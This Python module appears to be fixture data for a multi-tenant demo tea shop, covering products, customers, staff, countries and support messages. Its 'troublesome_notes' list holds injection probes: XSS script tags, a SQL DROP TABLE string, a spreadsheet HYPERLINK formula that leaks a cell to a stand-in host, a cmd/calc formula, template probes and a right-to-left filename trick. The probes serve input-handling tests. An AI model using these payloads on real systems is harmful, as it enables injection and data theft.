"""What the demo shop is made of: goods, people, and texts that would trouble a careless page."""

from __future__ import annotations

tenants = ["acme", "globex", "initech"]

goods = [
    ("TEA-100", "Sencha, 100 g", 1_190),
    ("TEA-250", "Earl Grey, 250 g", 1_690),
    ("CUP-03", "Cup “Nørrebro”", 1_450),
    ("POT-01", "Teapot, cast iron", 6_900),
    ("COF-500", "Espresso beans, 500 g", 1_590),
    ("GRI-02", "Hand grinder", 8_450),
    ("FIL-100", "Paper filters, 100", 490),
    ("BOK-17", "Book: Event Storming for Tea Houses", 3_290),
    ("KET-02", "Kettle with thermometer", 11_900),
    ("HON-01", "Chestnut honey, 250 g", 895),
    ("BIS-12", "Shortbread, 12", 620),
    ("GIF-50", "Gift box", 5_000),
    ("TRA-01", "Tray, ash wood", 4_200),
    ("MAT-30", "Matcha お茶, 30 g", 2_450),
]
"""Number, name, price in cents."""

first_names = [
    "anna", "björn", "chloe", "dmitri", "elif", "farid", "greta", "hana", "ivo", "josé", "kaja", "liam", "mei", "nadia",
    "olu", "petra", "quinn", "rosa", "søren", "tariq", "uma", "vera", "wim", "xenia", "yuki", "zoë",
]  # fmt: skip

unusual_customers = ["o'brien & sons", "Ünal/Söhne, Büro 3", "株式会社 桜", "50% off? #1", "sky 🛍️ shop", "a b"]
"""Ids that a URL, an SQL string or a file name has to survive."""

agents = ["maria@shop.test", "tom@shop.test", "系統"]
packers = ["lena@shop.test", "ravi@shop.test"]
countries = ["DE", "DE", "DE", "AT", "NL", "FR", "FR", "US", "BR"]
carriers = ["DHL", "PostNL", "UPS"]

troublesome_notes = [
    '<script>alert("tea")</script>',
    '=HYPERLINK("http://example.test/?leak="&A1, "click")',
    "Please ring twice.\nSecond floor,\tleft.\r\nThank you!",
    "🎁 für Oma — bitte „schön“ einpacken 🎀👵🏽",
    "'; DROP TABLE projectionist_events; --",
    "+49 30 1234567",
    "<img src=x onerror=alert(1)><b>Pen</b>",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "Reversed \u202etxt.exe\u202c and zero\u200bwidth",
    "Very long: " + "leave it with the neighbour, who is nearly always at home; " * 20,
    "{{ 7 * 7 }} ${7*7} %s %n \\x00 \\u0000",
]
plain_notes = ["Leave it at the door", "A gift", "Ring twice", "No plastic please", "Same as last time"]

subjects = [
    ("Where is my parcel?", "It should have come on Monday."),
    ("Wrong colour", "I ordered the green one."),
    ("Broken handle", "It came off when I lifted the lid."),
    ("Invoice", "Could you send it to our accountants?"),
    ("Nice!", "Just wanted to say: the best tea in town 🍵"),
]
